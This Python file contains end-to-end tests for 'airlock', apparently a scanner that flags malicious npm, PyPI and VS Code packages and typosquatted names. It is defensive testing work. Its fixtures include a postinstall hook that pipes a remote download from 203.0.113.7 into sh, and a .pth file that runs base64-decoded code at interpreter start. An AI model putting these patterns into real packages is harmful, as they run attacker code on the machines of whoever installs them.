#!/usr/bin/env python3
"""End-to-end tests of the airlock command line: exit codes, --fail-on, formats, stdin lists,
trees (node_modules, site-packages), VS Code extensions, suppressions, the catalogue verb.

    tests/e2e/test_cli.py AIRLOCK_BIN FIXTURE_DIR

FIXTURE_DIR is what scripts/make-fixtures.py wrote. Every check runs the real binary.
Standard library only; exits 1 when a check fails.
"""

import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile

from e2e_common import Checker

CHECKS = Checker()
FAILURES = CHECKS.failures  # what failed, for the summary


check = CHECKS.check


def run(args, stdin=None):
    p = subprocess.run([AIRLOCK] + args, input=stdin, capture_output=True, text=True, timeout=300)
    return p.returncode, p.stdout, p.stderr


def scan_json(args, stdin=None):
    rc, out, err = run(["scan", "--format", "json"] + args, stdin)
    try:
        return rc, json.loads(out), err
    except json.JSONDecodeError:
        return rc, None, err


def write(root, rel, content):
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    mode = "wb" if isinstance(content, bytes) else "w"
    with open(path, mode) as f:
        f.write(content)
    return path


def main():
    fixtures = sys.argv[2]
    clean = os.path.join(fixtures, "npm", "quartzline-strings-1.2.0.tgz")
    evil = os.path.join(fixtures, "npm", "fast-install-helper-2.1.0.tgz")
    tmp = tempfile.mkdtemp(prefix="airlock-cli-")
    try:
        # Exit codes and --fail-on.
        rc, rep, _ = scan_json([clean])
        check(rc == 0 and rep["summary"]["verdict"] in ("allow", "warn"), "clean package exits 0")
        rc, rep, _ = scan_json([evil])
        check(rc == 1 and rep["summary"]["verdict"] == "block", "malicious package exits 1")
        rc, rep, _ = scan_json([evil, "--fail-on", "critical"])
        check(rc == 1 and rep["summary"]["max_severity"] == "critical",
              "--fail-on critical still blocks a critical finding")
        rc, rep, _ = scan_json([clean, "--fail-on", "info"])
        has_findings = rep and rep["summary"]["findings"] > 0
        check((rc == 1) == bool(has_findings), "--fail-on info blocks on any finding")
        rc, _, err = run(["scan", clean, "--fail-on", "severe"])
        check(rc == 2 and "airlock: " in err, "bad --fail-on value is a usage error (exit 2)")
        rc, _, err = run(["frobnicate"])
        check(rc == 2, "unknown verb exits 2")

        # A missing target is reported; the others are still scanned; exit follows findings.
        rc, rep, err = scan_json([os.path.join(tmp, "missing.tgz"), evil])
        check(rc == 1 and len(rep["targets"]) == 2 and len(rep["errors"]) == 1,
              "missing target reported as an error, other target still scanned, exit 1 wins")
        rc, rep, err = scan_json([os.path.join(tmp, "missing.tgz"), clean])
        check(rc == 2 and rep["errors"][0]["target"] == 0, "only an error decided: exit 2")

        # Target metadata from manifests, and the archive hash.
        rc, rep, _ = scan_json([clean])
        t = rep["targets"][0]
        digest = hashlib.sha256(open(clean, "rb").read()).hexdigest()
        check(t["kind"] == "npm-tarball" and t["name"] == "quartzline-strings"
              and t["version"] == "1.2.0" and t["sha256"] == digest,
              "npm tarball: kind, name, version and sha256")
        whl = [f for f in os.listdir(os.path.join(fixtures, "pypi")) if f.endswith(".whl")][0]
        rc, rep, _ = scan_json([os.path.join(fixtures, "pypi", whl)])
        check(rep["targets"][0]["kind"] == "pypi-wheel" and rep["targets"][0]["name"],
              "wheel: kind pypi-wheel and a name from METADATA")
        sdist = os.path.join(fixtures, "pypi", "marlinconf-2.0.0.tar.gz")
        rc, rep, _ = scan_json([sdist])
        check(rep["targets"][0]["kind"] == "pypi-sdist"
              and rep["targets"][0]["version"] == "2.0.0", "sdist: kind and version")

        # '-' reads a list of paths on stdin (comments and blank lines ignored).
        rc, rep, _ = scan_json(["-", "--jobs", "2"], stdin=f"# list\n{clean}\n\n{evil}\n")
        check(rep and [x["path"] for x in rep["targets"]] == [clean, evil] and rc == 1,
              "stdin list: both targets, in input order, with --jobs 2")

        # node_modules: every package (scoped and nested) is its own target.
        nm = os.path.join(tmp, "proj", "node_modules")
        write(nm, "a/package.json", '{"name":"a","version":"1.0.0"}')
        write(nm, "@s/b/package.json", '{"name":"@s/b","version":"2.0.0"}')
        write(nm, "a/node_modules/c/package.json",
              '{"name":"c","version":"3.0.0","scripts":{"postinstall":'
              '"curl -s http://203.0.113.7/x | sh"}}')
        rc, rep, _ = scan_json([nm])
        names = sorted(x["name"] for x in rep["targets"])
        check(names == ["@s/b", "a", "c"], "node_modules: one target per package, nested included")
        bad = [f for f in rep["findings"] if f["severity"] in ("high", "critical")]
        check(rc == 1 and bad and rep["targets"][bad[0]["target"]]["name"] == "c",
              "node_modules: the nested malicious package is the one blamed")

        # pnpm layout: top-level names are links into .pnpm/<id>/node_modules/<name>; the
        # store is walked (links are never followed) and each package scanned once.
        pn = os.path.join(tmp, "pnpm", "node_modules")
        write(pn, ".pnpm/left-pad@1.3.0/node_modules/left-pad/package.json",
              '{"name":"left-pad","version":"1.3.0"}')
        os.symlink(".pnpm/left-pad@1.3.0/node_modules/left-pad", os.path.join(pn, "left-pad"))
        rc, rep, _ = scan_json([pn])
        check(rep and [(x["name"], x["version"]) for x in rep["targets"]] == [("left-pad", "1.3.0")],
              "pnpm node_modules: packages found in the .pnpm store, links not followed")

        # site-packages: one target per distribution, files from RECORD.
        sp = os.path.join(tmp, "site-packages")
        write(sp, "good-1.0.dist-info/METADATA", "Name: good\nVersion: 1.0\n\n")
        write(sp, "good-1.0.dist-info/RECORD", "good/__init__.py,,\ngood-1.0.dist-info/METADATA,,\n")
        write(sp, "good/__init__.py", "x = 1\n")
        write(sp, "evil-0.1.dist-info/METADATA", "Name: evil\nVersion: 0.1\n\n")
        write(sp, "evil-0.1.dist-info/RECORD", "evil_init.pth,,\nevil-0.1.dist-info/METADATA,,\n")
        write(sp, "evil_init.pth",
              "import os;exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n")
        rc, rep, _ = scan_json([sp])
        by_name = {x["name"]: x for x in rep["targets"]}
        check(set(by_name) == {"good", "evil"}, "site-packages: one target per distribution")
        blamed = {rep["targets"][f["target"]]["name"] for f in rep["findings"]
                  if f["severity"] in ("high", "critical")}
        check(blamed == {"evil"}, "site-packages: the .pth is blamed on the distribution owning it")

        # VS Code extension (.vsix): manifest under extension/.
        vsix = os.path.join(tmp, "ext.vsix")
        with zipfile.ZipFile(vsix, "w") as z:
            z.writestr("extension.vsixmanifest", "<PackageManifest/>")
            z.writestr("extension/package.json",
                       '{"name":"ext","publisher":"acme","version":"0.0.1","main":"main.js"}')
            z.writestr("extension/main.js", "exports.activate = () => {};\n")
        rc, rep, _ = scan_json([vsix])
        t = rep["targets"][0]
        check(t["kind"] == "vsix" and t["name"] == "acme.ext" and t["version"] == "0.0.1",
              "vsix: kind and publisher.name from extension/package.json")

        # Formats: text has one summary line; sarif is SARIF 2.1.0; ndjson one object per line.
        rc, out, _ = run(["scan", evil, "--format", "text"])
        summary = [l for l in out.splitlines() if l.startswith("airlock: ")]
        check(len(summary) == 1 and "block" in summary[0] and "\x1b[" not in out,
              "text: one summary line, no colour when not a terminal")
        rc, out, _ = run(["scan", evil, "--format", "sarif"])
        sarif = json.loads(out)
        res = sarif["runs"][0]["results"]
        check(sarif["version"] == "2.1.0" and res and all(
            r["locations"][0]["physicalLocation"]["region"]["startLine"] >= 1
            for r in res if "locations" in r
            and "region" in r["locations"][0]["physicalLocation"]), "sarif: 2.1.0, 1-based lines")
        rc, out, _ = run(["scan", evil, clean, "--format", "ndjson"])
        lines = [json.loads(l) for l in out.splitlines() if l.strip()]
        check(lines[-1]["type"] == "summary" and sum(l["type"] == "target" for l in lines) == 2,
              "ndjson: a target line each and a final summary")

        # Suppressions: rule + path glob + content hash; the wrong hash suppresses nothing.
        pkg = os.path.join(tmp, "supp")
        write(pkg, "package.json", '{"name":"supp","version":"1.0.0","bin":{"git":"cli.js"}}')
        write(pkg, "cli.js", "#!/usr/bin/env node\n")
        pj = hashlib.sha256(open(os.path.join(pkg, "package.json"), "rb").read()).hexdigest()
        good = write(tmp, "good.yaml", "suppressions:\n  - rule: bin-shadows-command\n"
                     f"    path: \"package.json\"\n    sha256: \"{pj}\"\n    reason: test\n")
        wrong = write(tmp, "wrong.yaml", "suppressions:\n  - rule: bin-shadows-command\n"
                      f"    path: \"*\"\n    sha256: \"{'0' * 64}\"\n")
        pathonly = write(tmp, "pathonly.yaml",
                         "suppressions:\n  - rule: bin-shadows-command\n    path: \"*\"\n")
        rc1, _, _ = run(["scan", pkg])
        rc2, rep, _ = scan_json([pkg, "--suppressions", good])
        rc3, _, _ = run(["scan", pkg, "--suppressions", wrong])
        rc4, _, err = run(["scan", pkg, "--suppressions", pathonly])
        check(rc1 == 1 and rc2 == 0 and rc3 == 1,
              "suppression by rule + glob + sha256 works; a wrong hash suppresses nothing")
        check(rc4 == 2 and "sha256" in err, "a suppression without a content hash is refused")

        # --rules DIR adds user rules; a broken rule file is a clear error.
        rules = os.path.join(tmp, "rules")
        write(rules, "mine.yar", 'rule my_marker { meta: category = "execution" severity = "high" '
              'strings: $a = "QUARTZ-MARKER-42" condition: $a }')
        write(pkg, "marker.js", "// QUARTZ-MARKER-42 is not a comment here:\nvar m = 'QUARTZ-MARKER-42';\n")
        rc, rep, _ = scan_json([pkg, "--rules", rules])
        check(any(f["rule"] == "my-marker" for f in rep["findings"]), "--rules: user rule fires")
        write(rules, "broken.yar", "rule broken { condition: nope }")
        rc, _, err = run(["scan", pkg, "--rules", rules])
        check(rc == 2 and "broken.yar" in err, "--rules: a broken rule names its file, exit 2")

        # check: names, stdin, corpora, internal names, bad input.
        rc, out, _ = run(["check", "crossenv", "react", "--ecosystem", "npm", "--format", "json"])
        rep = json.loads(out)
        flagged = {rep["targets"][f["target"]]["name"]: f for f in rep["findings"]}
        check(rc == 1 and set(flagged) == {"crossenv"} and "cross-env" in flagged["crossenv"]["message"]
              and flagged["crossenv"]["category"] == "name-confusion"
              and all(t["kind"] == "name" and t["ecosystem"] == "npm" for t in rep["targets"]),
              "check: crossenv flagged as imitating cross-env, react clean, name targets")
        corpus = write(tmp, "pypi.txt", "requests\nnumpy\ncolorama\n")
        rc, out, err = run(["check", "-", "--ecosystem", "pypi", "--corpus", f"pypi={corpus}",
                            "--format", "json"], stdin="reqeusts\nnumpy\n")
        rep = json.loads(out)
        check(rc == 1 and len(rep["targets"]) == 2 and len(rep["findings"]) == 1,
              "check -: names from stdin against a one-name-per-line corpus")
        rc, out, err = run(["check", "reqeusts", "--ecosystem", "pypi", "--format", "json"])
        check(rc == 0 and err.count("no pypi corpus") == 1, "check: no corpus is said once, run continues")
        internal = write(tmp, "internal.txt", "acme-billing-core\n")
        rc, out, _ = run(["check", "acme-billing-core", "--ecosystem", "npm", "--corpus",
                          f"internal={internal}", "--format", "json"])
        rep = json.loads(out)
        check(rc == 1 and rep["findings"][0]["rule"] == "dependency-confusion",
              "check --corpus internal: a public name equal to an internal one is a finding")
        bad = write(tmp, "bad-corpus.json", '{"not": "rows"}')
        rc, _, err = run(["check", "x", "--ecosystem", "pypi", "--corpus", f"pypi={bad}"])
        check(rc == 2 and "bad-corpus.json" in err, "check: a corpus file that is not a corpus is a clear error")
        rc, out, _ = run(["check", "", "bad\x01name", "--ecosystem", "npm", "--format", "json"])
        rep = json.loads(out)
        check(rc == 2 and len(rep["errors"]) == 2, "check: empty and control-character names are errors")

        # scan checks declared dependency names; an npm alias is checked by the package it
        # installs, not by its folder name.
        app = os.path.join(tmp, "alias-app")
        write(app, "package.json", json.dumps({
            "name": "acme-alias-app", "version": "1.0.0",
            "dependencies": {"react-17": "npm:react@^17.0.2", "lodash": "npm:lodahs@1.0.0",
                             "cross-env": "^7.0.0"}}, indent=2))
        rc, rep, _ = scan_json([app])
        deps = [f for f in rep["findings"] if f["rule"] == "dependency-name-confusion"]
        check(len(deps) == 1 and "lodahs" in deps[0]["message"]
              and "'lodash'" in deps[0]["message"] and deps[0]["location"]["line"] == 6,
              "scan: an npm alias hiding a squat is flagged by the package it installs, "
              "a version alias of a popular package is not: %s" % [f["message"] for f in deps])

        # Catalogue verb.
        rc, out, _ = run(["catalogue", "--format", "json"])
        cat = json.loads(out)
        ids = {e["id"] for e in cat["entries"]}
        check(rc == 0 and cat["schema"] == "airlock.catalogue/1" and len(ids) > 150
              and any(i.startswith("macos.") for i in ids) and any(i.startswith("windows.") for i in ids),
              "catalogue: json lists Linux, macOS and Windows entries")
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    print(f"\n{len(FAILURES)} failed")
    return 1 if FAILURES else 0


if __name__ == "__main__":
    if len(sys.argv) != 3:
        print(__doc__)
        sys.exit(2)
    AIRLOCK = sys.argv[1]
    sys.exit(main())
